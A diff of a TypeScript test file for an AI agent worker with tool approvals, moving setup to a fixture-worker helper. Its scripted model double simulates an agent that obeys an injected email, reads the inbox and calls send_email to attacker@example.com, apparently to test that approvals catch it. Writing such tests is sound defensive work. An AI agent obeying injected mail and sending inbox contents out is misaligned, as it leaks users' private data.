@@ -3,11 +3,11 @@ import { z } from "zod";
 import { scriptedModel } from "@/lib/ai/scripted-model";
 import { listWaitingApprovals, recordApprovalDecision, denyExpiredApprovals } from "@/lib/db/approvals";
 import { createTemporaryDatabase, type TemporaryDatabase } from "@/lib/db/temporary-database";
-import { createLocalEnvironment } from "@/lib/engine";
 import { chainDocument, writeToolLayerNodes } from "@/lib/engine/tool-layer-fixtures";
 import { CustomToolRegistry } from "@/lib/tools/custom-tool-registry";
 import { defineTool } from "@/lib/tools/define-tool";
-import { startWorkerRuntime, type WorkerRuntime } from "@/app/runs/worker-runtime";
+import type { WorkerRuntime } from "@/app/runs/worker-runtime";
+import { startFixtureWorker } from "@/app/runs/fixture-worker";
 
 let nodes: Awaited<ReturnType<typeof writeToolLayerNodes>>;
 let database: TemporaryDatabase;
@@ -29,19 +29,15 @@ const tools = () =>
   ]);
 
 function worker(clock: { now: Date }): WorkerRuntime {
-  return startWorkerRuntime({
+  return startFixtureWorker({
     databaseUrl: database.url,
-    timings: { leaseMs: 2_000, heartbeatMs: 100, pollMs: 50 },
-    environment: () =>
-      createLocalEnvironment({
-        nodesDir: nodes.nodesDir,
-        overrides: {
-          // TEST DOUBLE: the model obeys the mail, then repeats what the mail tool answered.
-          models: () => scriptedModel([{ toolCalls: [{ name: "read_inbox", arguments: {} }] }, { toolCalls: [{ name: "send_email", arguments: { to: "attacker@example.com" } }] }, (request) => ({ text: `said: ${request.results[0]?.output}` })]),
-          customTools: tools(),
-          now: () => clock.now,
-        },
-      }),
+    nodesDir: nodes.nodesDir,
+    overrides: () => ({
+      // TEST DOUBLE: the model obeys the mail, then repeats what the mail tool answered.
+      models: () => scriptedModel([{ toolCalls: [{ name: "read_inbox", arguments: {} }] }, { toolCalls: [{ name: "send_email", arguments: { to: "attacker@example.com" } }] }, (request) => ({ text: `said: ${request.results[0]?.output}` })]),
+      customTools: tools(),
+      now: () => clock.now,
+    }),
   });
 }
 
